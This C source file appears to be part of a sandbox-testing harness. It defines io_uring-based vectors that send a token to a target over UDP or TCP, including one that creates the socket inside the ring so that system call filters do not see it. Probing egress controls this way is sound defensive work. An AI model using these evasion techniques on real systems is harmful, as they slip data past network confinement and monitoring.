/* SPDX-License-Identifier: Apache-2.0 */
/* io_uring: the same operations, made by the kernel on the application's behalf. */
#include "../adversary.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <poll.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
	int fd;
	unsigned flags;
	uint8_t *submissions, *completions;
	struct io_uring_sqe *entries;
	struct io_uring_params params;
};

static int open_ring(struct ring *ring, unsigned flags)
{
	size_t size;

	memset(ring, 0, sizeof(*ring));
	ring->flags = ring->params.flags = flags;
	ring->fd = (int)syscall(SYS_io_uring_setup, 4, &ring->params);
	if (ring->fd < 0)
		return -errno;
	size = ring->params.sq_off.array + ring->params.sq_entries * sizeof(unsigned);
	ring->submissions =
		mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	size = ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
	ring->completions =
		mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
	ring->entries = mmap(NULL, 4 * sizeof(*ring->entries), PROT_READ | PROT_WRITE, MAP_SHARED,
			     ring->fd, IORING_OFF_SQES);
	return 0;
}

static unsigned *word(uint8_t *base, unsigned offset)
{
	return (unsigned *)(base + offset);
}

/* One operation; returns its result. */
static int operate(struct ring *ring, const struct io_uring_sqe *entry)
{
	unsigned *tail = word(ring->submissions, ring->params.sq_off.tail), *done;
	unsigned head = *word(ring->completions, ring->params.cq_off.head);

	ring->entries[0] = *entry;
	*word(ring->submissions, ring->params.sq_off.array + 4 * (*tail & 3)) = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (ring->flags & IORING_SETUP_SQPOLL)
		syscall(SYS_io_uring_enter, ring->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
	else if (syscall(SYS_io_uring_enter, ring->fd, 1, 0, 0, NULL, 0) < 0)
		return -errno;
	done = word(ring->completions, ring->params.cq_off.tail);
	for (int tries = 0; __atomic_load_n(done, __ATOMIC_ACQUIRE) == head; tries++) {
		if (tries == PATIENCE_MS)
			return -ETIMEDOUT;
		poll(NULL, 0, 1);
	}
	*word(ring->completions, ring->params.cq_off.head) = head + 1;
	return ((struct io_uring_cqe *)(ring->completions +
					ring->params.cq_off
						.cqes))[head & (ring->params.cq_entries - 1)]
		.res;
}

static int send_datagram(struct ring *ring, int fd, const struct attempt *attempt)
{
	struct iovec part = {(void *)attempt->token, strlen(attempt->token)};
	struct msghdr message = {.msg_name = (void *)&attempt->target,
				 .msg_iov = &part,
				 .msg_namelen = size_of(&attempt->target),
				 .msg_iovlen = 1};
	struct io_uring_sqe entry = {.opcode = IORING_OP_SENDMSG,
				     .fd = fd,
				     .addr = (uintptr_t)&message,
				     .len = 1};
	int result = operate(ring, &entry);

	return result < 0 ? result : 0;
}

VECTOR(uring_udp)
{
	struct ring ring;
	int result = open_ring(&ring, 0);

	return result
		       ?: send_datagram(&ring, open_socket(&attempt->target, SOCK_DGRAM, 0),
					attempt);
}

/* By a thread of the kernel. */
VECTOR(uring_polled)
{
	struct ring ring;
	int result = open_ring(&ring, IORING_SETUP_SQPOLL);

	return result
		       ?: send_datagram(&ring, open_socket(&attempt->target, SOCK_DGRAM, 0),
					attempt);
}

/* The socket is made by the ring, too: system call filters do not see it. */
VECTOR(uring_socket)
{
	struct io_uring_sqe entry = {.opcode = IORING_OP_SOCKET,
				     .fd = attempt->target.sa.sa_family,
				     .off = SOCK_DGRAM};
	struct ring ring;
	int result = open_ring(&ring, 0);

	if (result || (result = operate(&ring, &entry)) < 0)
		return result;
	return send_datagram(&ring, result, attempt);
}

VECTOR(uring_tcp)
{
	int fd = open_socket(&attempt->target, SOCK_STREAM, 0);
	struct io_uring_sqe connecting = {.opcode = IORING_OP_CONNECT,
					  .fd = fd,
					  .addr = (uintptr_t)&attempt->target,
					  .off = size_of(&attempt->target)};
	struct ring ring;
	int result = open_ring(&ring, 0);

	if (result || (result = operate(&ring, &connecting)) < 0)
		return result;
	return send_stream(fd, attempt);
}
